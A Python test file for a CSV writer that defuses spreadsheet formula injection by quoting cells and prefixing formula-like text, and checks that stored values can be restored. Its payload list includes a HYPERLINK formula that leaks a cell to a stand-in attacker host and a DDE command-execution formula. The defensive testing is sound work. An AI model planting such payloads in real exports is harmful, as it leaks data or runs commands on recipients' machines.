"""The one CSV writer every export uses: every cell quoted, formula-like text defused,
numbers left as numbers, and the stored value recoverable."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from opendata import csvsafe

# Payloads from the OWASP CSV-injection page and the issue, and the same after leading
# whitespace or quotes (some spreadsheets trim those before looking for a formula).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\tplain after a tab",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "\n-1",
]
HARMLESS = ["a;b", "plain", "2.50", "it's", "a=b", "", "'quoted'"]


def written(values: list) -> str:
    out = io.StringIO()
    csvsafe.writer(out).writerow(values)
    return out.getvalue()


def test_it_quotes_every_cell_and_prefixes_formulas():
    assert written(["=1", "a;b", "plain", None, 7]) == '"\'=1","a;b","plain","","7"\r\n'


@pytest.mark.parametrize("text", FORMULAS)
def test_it_defuses_each_formula_and_can_restore_it(text):
    cell = csvsafe.cell(text)
    assert cell == "'" + text
    assert csvsafe.restore(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_it_leaves_harmless_text_alone(text):
    assert csvsafe.cell(text) == text
    assert csvsafe.restore(text) == text


def test_it_keeps_numbers_numeric_but_not_text_that_looks_like_one():
    # The rule: a value whose type is a number is written as digits (a spreadsheet can sum
    # it); text is text, whatever it looks like.
    assert csvsafe.cell(-5) == "-5"
    assert csvsafe.cell(Decimal("-2.40")) == "-2.40"
    assert csvsafe.cell(-0.5) == "-0.5"
    assert csvsafe.cell("-5") == "'-5"
    # Not finite numbers print as words, so they are treated as text.
    assert csvsafe.cell(Decimal("-Infinity")) == "'-Infinity"
    assert csvsafe.cell(float("-inf")) == "'-inf"


def test_it_formats_other_values_the_same_everywhere():
    assert csvsafe.cell(None) == ""
    assert csvsafe.cell(True) == "true"
    assert csvsafe.cell(False) == "false"
    assert csvsafe.cell(dt.date(2018, 5, 22)) == "2018-05-22"
    # A list becomes one cell, one value per line; the rule applies to the whole cell.
    assert csvsafe.cell(["=a", "b"]) == "'=a\nb"
    assert csvsafe.cell(["a", "=b"]) == "a\n=b"


@given(st.text())
def test_restore_gives_back_any_text(text):
    cell = csvsafe.cell(text)
    assert csvsafe.restore(cell) == text
    # What a spreadsheet looks at: the first character, or the first after leading
    # spaces and quotes. Either the cell starts with the apostrophe or neither is a
    # trigger.
    if not cell.startswith("'"):
        assert cell[:1] not in "=+-@\t\r" or cell == ""
        assert cell.lstrip(" \n'\"")[:1] not in ("=", "+", "-", "@")


@given(st.lists(st.one_of(st.text(), st.integers(), st.none(), st.booleans())))
def test_every_row_reads_back_cell_for_cell(values):
    row = next(csv.reader(io.StringIO(written(values)), strict=True)) if values else []
    assert [csvsafe.restore(cell) for cell in row] == [
        "" if v is None else ("true" if v is True else "false" if v is False else str(v))
        for v in values
    ]
